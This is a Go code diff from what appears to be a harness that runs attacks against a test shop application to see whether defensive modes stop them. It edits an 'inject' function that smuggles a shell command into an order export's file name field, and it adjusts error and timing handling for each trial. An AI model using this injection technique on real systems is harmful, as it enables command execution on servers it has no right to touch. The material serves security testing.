@@ -51,7 +51,7 @@ func newRaid(ctx context.Context, t *target) (*raid, error) {
 
 // inject runs shell commands through the name of an order's export and gives their output.
 func (r *raid) inject(ctx context.Context, command string) (string, error) {
-	return r.post(ctx, "/order/export", url.Values{"number": {r.order.number}, "name": {r.token + ".tar.gz; " + command + " #"}})
+	return r.post(ctx, "/order/export", url.Values{"number": {r.order.number}, "name": {r.token + ".tar.gz; echo; " + command + " #"}})
 }
 
 // runUploaded runs what lies at path, seen from the plugins' folder.
@@ -210,15 +210,17 @@ func (t *Trial) judge(mode bulkhead.Mode) {
 	}
 }
 
-// try runs one attack. A shop that does not even sell is an error; a failed attack is not.
+// try runs one attack. The error says that the shop did not even sell; a failed attack is
+// none.
 func try(ctx context.Context, t *target, a attack) (Trial, time.Time, error) {
+	start := time.Now()
 	r, err := newRaid(ctx, t)
 	if err != nil {
-		return Trial{}, time.Time{}, err
+		return Trial{Alerts: []string{}, Saw: shorten(err.Error(), 160)}, start, err
 	}
 	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
 	defer cancel()
-	start := time.Now()
+	start = time.Now()
 	proof, err := a.Run(ctx, r)
 	trial := Trial{Reached: proof != "", Proof: proof, Alerts: []string{}}
 	if err != nil {
